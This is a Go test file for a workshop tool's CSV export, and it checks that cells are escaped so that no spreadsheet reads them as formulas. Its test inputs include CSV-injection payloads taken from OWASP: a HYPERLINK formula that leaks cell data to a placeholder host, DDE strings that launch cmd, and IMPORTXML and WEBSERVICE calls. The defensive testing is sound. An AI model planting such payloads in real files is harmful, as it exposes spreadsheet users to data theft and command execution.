package export

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"convene/workshop"
	"convene/workshop/tongue"
)

// pinned is a wall with a cluster of one note, a note that stands alone and one that is parked.
func pinned(cluster, note, parked string) workshop.Canvas {
	card := func(s string) []workshop.Card { return []workshop.Card{{Text: s}} }
	return workshop.Canvas{Wall: []workshop.Column{{
		Prompt: workshop.PromptHow, Clusters: []workshop.Pile{{Title: cluster, Notes: card(note), Dots: 3}},
		Lone: card(note), Parked: card(parked),
	}}}
}

// spreadsheet reads a table as RFC 4180 has it, strictly.
func spreadsheet(t testing.TB, source string) [][]string {
	t.Helper()
	body, marked := strings.CutPrefix(source, "\ufeff")
	if !marked {
		t.Error("no byte order mark")
	}
	if bare := strings.ReplaceAll(body, "\r\n", ""); strings.ContainsAny(bare, "\r\n") || !strings.HasSuffix(body, "\r\n") {
		t.Errorf("a line doesn't end with CRLF in %q", body)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = 5
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, body)
	}
	return rows
}

// typedIn is the text that a cell was made of.
func typedIn(cell string) string {
	if rest, ok := strings.CutPrefix(cell, "'"); ok {
		if sign, _ := leadingSign(rest); sign {
			cell = rest
		}
	}
	var out strings.Builder
	for i := 0; i < len(cell); i++ {
		out.WriteByte(cell[i])
		if (cell[i] == ';' || cell[i] == ',') && i+2 < len(cell) && cell[i+1] == '\'' && isFormula(cell[i+2:]) {
			i++
		}
	}
	return out.String()
}

// splitting are ways in which programs make cells of a line, by the separator that they look for.
var splitting = map[string]func(line string, separator byte) []string{
	"quotes are text": func(line string, separator byte) []string { return strings.Split(line, string(separator)) },
	// As most spreadsheets do it: a quote at the start of a cell opens it, the next one that is not doubled closes it, and
	// whatever follows that belongs to the cell.
	"quotes end": func(line string, separator byte) []string {
		var cells []string
		for {
			var cell strings.Builder
			if strings.HasPrefix(line, `"`) {
				for line = line[1:]; line != ""; line = line[1:] {
					if line[0] == '"' && !strings.HasPrefix(line, `""`) {
						line = line[1:]
						break
					}
					if line[0] == '"' {
						line = line[1:]
					}
					cell.WriteByte(line[0])
				}
			}
			rest, next, more := strings.Cut(line, string(separator))
			cell.WriteString(rest)
			cells = append(cells, cell.String())
			if line = next; !more {
				return cells
			}
		}
	},
	// As lenient programs do it: a quote closes a cell only before the separator.
	"quotes end before a separator": func(line string, separator byte) []string {
		r := csv.NewReader(strings.NewReader(line))
		r.Comma, r.LazyQuotes = rune(separator), true
		cells, _ := r.Read() // what it cannot read ends in the middle of a cell, of which the beginning is there
		return cells
	},
}

// computed are the cells of a file in which some spreadsheet could find a formula, with how it came to them. It looks at the
// bytes as they are written, and knows nothing of how that was done.
func computed(source string) []string {
	var found []string
	for about, split := range splitting {
		for _, separator := range []byte{',', ';', '\t'} {
			for line := range strings.Lines(strings.TrimPrefix(source, "\ufeff")) {
				line = strings.TrimRight(line, "\r\n")
				for _, cell := range split(line, separator) {
					begins := []rune(strings.TrimLeftFunc(cell, func(r rune) bool {
						return r == '"' || unicode.IsSpace(r) || unicode.In(r, unicode.C, unicode.M, unicode.Z) || !unicode.IsPrint(r)
					}))
					if len(begins) > 0 && strings.ContainsRune("=+-@＝＋－＠", begins[0]) && (len(begins) == 1 || begins[1] != ')') {
						found = append(found, fmt.Sprintf("%q (%q, %s)", cell, separator, about))
					}
				}
			}
		}
	}
	return found
}

// The test of the test: what is written as it was typed is seen, in every way of reading.
func TestAFormulaIsSeen(t *testing.T) {
	for _, source := range []string{
		"how,,=1+1,0,no", `how,,"=1+1",0,no`, `how,,"x;=1+1",0,no`, `how,,"x;""=1+1;y",0,no`, `how,,"x,=1",0,no`, "how,,x\t-1,0,no",
		`how,"x;""` + "\u200b" + `=1",z,0,no`, "how,x;-,1+1;z,0,no", "how,x;-(,1)+1;z,0,no", "how,,x; ＝1,0,no",
	} {
		if len(computed("\ufeffprompt,cluster,note,dots,parked\r\n"+source+"\r\n")) == 0 {
			t.Errorf("no formula in %s", source)
		}
	}
	for _, source := range []string{"how,,1+1,0,no", "how,,x;-),0,no", `how,,"'=1+1",0,no`, `how,,"x;'""=1",0,no`} {
		if found := computed(source + "\r\n"); len(found) > 0 {
			t.Errorf("a formula in %s: %s", source, found)
		}
	}
}

func TestEveryNoteIsARow(t *testing.T) {
	got := spreadsheet(t, string(written(t, FormatCSV, withForces())))
	want := [][]string{
		{"prompt", "cluster", "note", "dots", "parked"},
		{"vision", "We learn from one another", "Pair across teams", "5", "no"},
		{"vision", "We learn from one another", "Nobody is stuck, \"ever\"", "5", "no"},
		{"vision", "", "Fun", "2", "no"},
		{"vision", "", "Fewer meetings", "0", "yes"},
		{"how", "Coding dojo", "Coding dojo", "0", "no"},
		{"how", "Coding dojo", "Dojo", "0", "no"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
}

// OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection: the signs it names, the wide ones, and
// formulas that are known from attacks.
func TestNoCellIsAFormula(t *testing.T) {
	for _, s := range []string{
		"=", "+", "-", "@", "\tx", "\rx", "\nx", "＝x", "＋x", "－x", "＠x",
		"=1+2", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "=HYPERLINK(\"http://x.example?leak=\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
		"=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "=WEBSERVICE(\"http://x.example\")",
		"  =1", " \t=1", "\u00a0=1", "\u3000=1", "\u200b=1", "\u0000=1", "\ufeff=1", "'=1", "''=1", "' =1", "-5 °C", "+1",
		"a;=1+2", "a; =1", "a;;@SUM(A1)", "a;'=1", "a;＝1",
		"x;\"=1+1;y", "x;\"\"=1+1", "x;\" \"=1+1", "\"=1+1\"", "\" =1", "x;'\"=1", "x;\"'=1", "x;\u200b\"=1", "x;\ufe0f=1", "x,=1+1", "x,\"=1+1\"",
		"x;-;1", "x;-(1)", "x;--1",
	} {
		source := string(written(t, FormatCSV, pinned(s, s, s)))
		if found := computed(source); len(found) > 0 {
			t.Errorf("%q became %s", s, found)
		}
		for _, row := range spreadsheet(t, source)[1:] {
			for _, cell := range row[1:3] {
				if strings.Trim(s, "\n\r\t") == s && cell != "" && !strings.Contains(cell, "'") {
					t.Errorf("%q became %q", s, cell)
				}
			}
		}
	}
}

// A formula can be in two texts of a row, for a spreadsheet that does not end a cell where the first of them ends.
func TestNoTwoCellsAreAFormula(t *testing.T) {
	for _, s := range [][2]string{{"x;-", "1+1;y"}, {"x;-(", "1)+1;y"}, {"x;=", "1+1"}, {`x;"=`, `1+1"`}, {"x;+;", "1"}} {
		if found := computed(string(written(t, FormatCSV, pinned(s[0], s[1], s[1])))); len(found) > 0 {
			t.Errorf("%q became %s", s, found)
		}
	}
}

// A table is for programs, and tables of several workshops can be put one below the other.
func TestATableIsTheSameInEveryLanguage(t *testing.T) {
	want := string(written(t, FormatCSV, withForces()))
	for _, lang := range append(workshop.Languages(), tongue.Pseudo) {
		c := withForces()
		c.Lang = lang
		c.Wording.Prompts = map[workshop.Prompt]workshop.PromptWording{workshop.PromptVision: {Label: "Pourquoi"}}
		if got := string(written(t, FormatCSV, c)); got != want {
			t.Errorf("%s: %s", lang, cmp.Diff(want, got))
		}
	}
}

func TestPlainCellsStayAsTheyAre(t *testing.T) {
	for _, s := range []string{
		"", "Fun", "a=b", "1-2", "don't", "'quoted'", "C++", "a@b.de", "5 + 3", "a,b", "\"x\"", "\"", "a;b", "李梅", "— dash", " lead", "fun ;-)", "a; b", "a;'b'", `\.`, "1e5",
		"fun =)", "a, b; c", "a,'b'", "ok, ;-) and so on", "x;\"y\"",
	} {
		rows := spreadsheet(t, string(written(t, FormatCSV, pinned("x", "y", s))))
		if got := rows[3][2]; got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

// FuzzCSV looks whether any text comes back out of its cell, and whether none can begin a formula.
func FuzzCSV(f *testing.F) {
	for _, s := range append(nastyTexts,
		"=1+1", "'=1", " +1", "\t-1", "＠x", "a,\"b\"\r\nc", "\r", "\n=1", "a;=1", "a;'=1", ";-)", ";'-)", `x;"=1+1;y`, "x,=1", "x;-(",
	) {
		f.Add(s, s, s)
	}
	f.Fuzz(func(t *testing.T, cluster, note, parked string) {
		if cluster == "" {
			cluster = note // an untitled cluster is called by its first note
		}
		source := string(written(t, FormatCSV, pinned(cluster, note, parked)))
		rows := spreadsheet(t, source)
		if len(rows) != 4 {
			t.Fatalf("%d rows", len(rows))
		}
		line := strings.NewReplacer("\r\n", " ", "\r", " ", "\n", " ", "\t", " ")
		for _, c := range []struct{ cell, typed string }{
			{rows[1][1], cluster}, {rows[1][2], note}, {rows[2][2], note}, {rows[3][2], parked},
		} {
			if got := typedIn(c.cell); got != line.Replace(c.typed) {
				t.Errorf("%q became %q, which is read as %q", c.typed, c.cell, got)
			}
		}
		if found := computed(source); len(found) > 0 {
			t.Errorf("%q, %q, %q became %s", cluster, note, parked, found)
		}
	})
}
